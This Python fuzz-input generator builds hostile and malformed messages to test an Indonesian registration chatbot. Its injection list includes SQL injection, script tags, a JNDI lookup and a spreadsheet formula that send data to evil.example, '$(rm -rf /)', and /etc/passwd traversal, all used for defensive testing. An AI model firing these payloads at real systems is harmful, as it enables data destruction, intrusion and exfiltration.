"""Hostile inputs for the fuzz run (bench/fuzz.py): what an attacker, a broken phone keyboard or a confused
person sends, drawn from a seeded `random.Random` so that any input can be made again from its seed.

Each draw is a `Message`: a text, a tap with callback data or a button id (forged or real), a shared
contact, or an attachment the bot cannot read; the channel's webhook payload is built from it in
bench/fuzz.py and read by the channel's own parser, as a real one would be."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from enum import StrEnum

from conversations.flows import ALL_FLOWS
from conversations.global_words import GlobalWord
from tests.hostile_inputs import HOSTILE, NIK_SPELLINGS

__all__ = ["Kind", "Message", "hostile", "sensible"]


class Kind(StrEnum):
    TEXT = "text"
    TAP = "tap"  # Telegram callback data, a WhatsApp button or list reply (or a template's button)
    CONTACT = "contact"  # a shared phone contact (Telegram)
    ATTACHMENT = "attachment"  # a photo, sticker, location…: the bot cannot read it


@dataclass(frozen=True, slots=True)
class Message:
    kind: Kind
    text: str = ""  # the text; for a tap, the id it carries; for a contact, the phone number

    def describe(self) -> str:
        shown = self.text if len(self.text) <= 80 else f"{self.text[:60]}… ({len(self.text)} characters)"
        return f"{self.kind.value} {shown!r}"


# Words the bot acts on, so that hostile noise also reaches the branches behind them.
KNOWN = (
    *(w.value for w in GlobalWord),
    *(f"/{w.value}" for w in GlobalWord),
    "halo",
    "/start",
    "daftar",
    "setuju",
    "tidak setuju",
    "ya",
    "tidak",
    "tidak tahu",
    "kembali",
    "kirim",
    "ubah data",
    "cek status",
    "data saya",
    "cek kelayakan",
    "tanya manfaat",
    "hitung manfaat",
    "klaim ahli waris",
    "lanjut klaim",
    "lapor kecelakaan",
    "hubungkan data",
    "perpanjang",
    "jadi donatur",
    "donatur saya",
    "sudah bayar",
    "terima ABCD2345",
    "kode ABCD2345",
    "/start ABCD2345",
    "menu dinas",
    "verifikasi",
    "kuota",
    "siaran",
    "siaran saya",
    "angka",
    "ekspor",
    "peran",
    "warga saya",
    "masuk web",
    "privasi",
    "english",
    "brp iuran nya",
    "klo meninggal dpt brp",
    "Medono",
    "medono",
    "narik becak",
    "buruh batik",
    "17-08-1975",
    "31-02-2020",
    "00-00-0000",
    "kemarin sore",
    "besok 08.00",
    "081234567890",
    "+62 812 3456 7890",
)
CHOICE_IDS = (
    *(f.id for f in ALL_FLOWS),
    *("agree", "decline", "id", "en", "menu", "yes", "no", "unknown", "list", "submit", "change", "nik", "back"),
    *("approve", "reject", "return", "next", "prev", "more", "cancel", "confirm", "0", "1", "7", "99", "-1"),
)
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0))]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u00ad", "\u180e"]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c"]
EMOJI = ["😀", "🙏🏽", "👨‍👩‍👧‍👦", "🇮🇩", "❤️", "🔥", "✅", "1️⃣", "🧕🏻", "\U0001f9ff", "©", "™"]
SCRIPTS = [
    "مرحبا بكم",  # Arabic
    "ꦱꦸꦒꦼꦁꦫꦮꦸꦃ",  # Javanese script
    "ᮞᮥᮔ᮪ᮓ",  # Sundanese script
    "你好，我要注册",  # Chinese
    "Здравствуйте",  # Cyrillic
    "नमस्ते",  # Devanagari
    "שלום",  # Hebrew
    "สวัสดี",  # Thai
    "Ｆｕｌｌｗｉｄｔｈ　ｔｅｘｔ",
    "Z̸̡̛̖a̵̢͎l̷̛̟g̶̯͝o̵͍͠",  # combining marks piled up
    "ﷺ ﷽",  # the widest ligatures
    "𝓢𝓲𝓽𝓲 𝓐𝓶𝓲𝓷𝓪𝓱",  # mathematical letters
    "\u0130stanbul ß ﬁ ǅ",  # case folding that changes length
    "e\u0301 vs é",  # decomposed and composed
]
INJECTIONS = [
    "'; DROP TABLE registrations; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM contacts;--",
    '"; SELECT * FROM outbox; --',
    "<script>alert(1)</script>",
    "<b>tebal</b> <i>miring</i> <a href='http://evil.example'>klik</a>",
    "&lt;&amp;&gt;&#0;&#x202e;",
    "*tebal* _miring_ ~coret~ `kode` ```blok```",
    "[klik di sini](http://evil.example) ![img](http://evil.example/x.png)",
    "# Judul\n- satu\n- dua\n> kutipan",
    "{0}{programme}{__class__.__mro__}",
    "%s %d %n %x %(name)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %}",
    "$(rm -rf /) `reboot`",
    "../../../../etc/passwd",
    "\\x00\\u202e\\n",
    '=HYPERLINK("http://evil.example/?d="&A2,"KTP")',
    "@SUM(A1:A9)",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"flow": "dinas_menu", "step": "choose"}',
]
NUMBERS = [
    "0",
    "00",
    "-1",
    "-0",
    "11",
    "99",
    "100",
    "101",
    "999999999999999999999999",
    "1e9",
    "1e-9",
    "3.5",
    "3,5",
    "½",
    "٣",  # Arabic-Indic three
    "３",  # fullwidth three
    "①",
    "Ⅻ",
    "nomor 2",
    "no. 11",
    "#4",
    "4️⃣",
    "2147483648",
    "-9223372036854775809",
    "0x10",
    "1_000",
    "Rp16.800",
    "16.800.000.000",
]
BLANKS = ["", " ", "   ", "\n", "\n\n\n", "\t", "\u00a0", "\u3000", "\u2028\u2029", " \u200b "]
DATES = ["32-13-2020", "29-02-2023", "29-02-2024", "01-01-1900", "01-01-2100", "17/08/1975", "1975-08-17", "17 agustus"]


def _valid_nik(rng: random.Random) -> str:
    """A NIK with Kota Pekalongan's code, a real birth date and a serial: what a person would type."""
    day = rng.randint(1, 28) + (40 if rng.random() < 0.5 else 0)
    born = f"{day:02d}{rng.randint(1, 12):02d}{rng.randint(50, 99):02d}"
    return f"3375{rng.randint(1, 4):02d}{born}{rng.randint(1, 9999):04d}"


def _nik_like(rng: random.Random) -> str:
    nik = _valid_nik(rng)
    separators = ["", " ", ".", "-", "/", "_", "\u00a0", "\u202f", "  ", "\u200b"]
    shapes: list[Callable[[], str]] = [
        lambda: nik,
        lambda: rng.choice(separators).join(nik[i : i + 4] for i in range(0, 16, 4)),
        lambda: f"nik saya {nik} ya",
        lambda: f"NIK: {nik}, lahir 17-08-1975, HP 081234567890",
        lambda: nik[:15],
        lambda: nik + "7",
        lambda: "".join(rng.choice("0123456789") for _ in range(16)),
        lambda: "".join(chr(ord(d) + 0xFF10 - 0x30) for d in nik),  # fullwidth digits
        lambda: "".join(chr(ord(d) + 0x0660 - 0x30) for d in nik),  # Arabic-Indic digits
        lambda: f"{nik} {_valid_nik(rng)}",
        lambda: rng.choice(NIK_SPELLINGS),
    ]
    return rng.choice(shapes)()


def _sprinkle(rng: random.Random, text: str, pool: Sequence[str], times: int) -> str:
    chars = list(text) or [""]
    for _ in range(times):
        chars.insert(rng.randint(0, len(chars)), rng.choice(pool))
    return "".join(chars)


def _huge(rng: random.Random) -> str:
    unit = rng.choice(["a", "kerja bakti ", "🙏", "ꦱ", "\u202e", "1", "\n", " ", "Siti Aminah ", "<b>", "\u200b"])
    size = rng.choice([1_025, 4_097, 5_000, 10_000, 33_000, 100_000])
    text = (unit * (size // len(unit) + 1))[:size]
    return rng.choice(KNOWN) + " " + text if rng.random() < 0.3 else text


def _random_text(rng: random.Random) -> str:
    length = rng.randint(1, 60)
    return "".join(
        chr(rng.choice([rng.randint(0x20, 0x7E), rng.randint(0xA0, 0x2FFF), rng.randint(0x1F300, 0x1FAFF)]))
        for _ in range(length)
    )


def _text(rng: random.Random) -> str:  # one kind of trouble per branch
    roll = rng.random()
    if roll < 0.10:
        return rng.choice(HOSTILE)
    if roll < 0.16:
        return _huge(rng)
    if roll < 0.26:
        return _sprinkle(rng, rng.choice(KNOWN), CONTROLS, rng.randint(1, 4))
    if roll < 0.34:
        return _sprinkle(rng, rng.choice(KNOWN), BIDI + INVISIBLE, rng.randint(1, 4))
    if roll < 0.40:
        return _sprinkle(rng, rng.choice(KNOWN), EMOJI, rng.randint(1, 3))
    if roll < 0.46:
        return rng.choice(SCRIPTS)
    if roll < 0.54:
        return rng.choice(INJECTIONS)
    if roll < 0.64:
        return _nik_like(rng)
    if roll < 0.70:
        return rng.choice(BLANKS)
    if roll < 0.78:
        return rng.choice(NUMBERS)
    if roll < 0.82:
        return rng.choice(DATES)
    if roll < 0.92:
        return rng.choice(KNOWN) + rng.choice(["", " ", "!!!", "??", " 🙏", "\u200b", " " + rng.choice(NUMBERS)])
    return _random_text(rng)


def _forged_id(rng: random.Random, offered: Sequence[str]) -> str:
    roll = rng.random()
    if offered and roll < 0.25:
        return rng.choice(offered)  # a real one, perhaps from a keyboard long gone
    if roll < 0.55:
        return rng.choice(CHOICE_IDS)
    if roll < 0.65:
        return rng.choice(CHOICE_IDS) + ":" + rng.choice(NUMBERS)
    if roll < 0.75:
        return "x" * rng.choice([64, 65, 200, 256, 1000])
    if roll < 0.85:
        return rng.choice(INJECTIONS)
    return _text(rng)[:300] or "?"


def hostile(rng: random.Random, offered: Sequence[str]) -> Message:
    """One hostile message; `offered`: the choice ids of the last replies (a tap may use one)."""
    roll = rng.random()
    if roll < 0.72:
        return Message(Kind.TEXT, _text(rng))
    if roll < 0.92:
        return Message(Kind.TAP, _forged_id(rng, offered))
    if roll < 0.96:
        return Message(
            Kind.CONTACT, rng.choice(["081234567890", "+6281234567890", "", "abc", _nik_like(rng), "0" * 30])
        )
    return Message(Kind.ATTACHMENT)


def sensible(rng: random.Random, offered: Sequence[str]) -> Message:
    """What a person following the conversation sends: a choice offered, its number, or a known word."""
    roll = rng.random()
    if offered and roll < 0.5:
        return Message(Kind.TAP, rng.choice(offered))
    if offered and roll < 0.7:
        return Message(Kind.TEXT, str(rng.randint(1, len(offered))))
    return Message(Kind.TEXT, rng.choice(KNOWN))
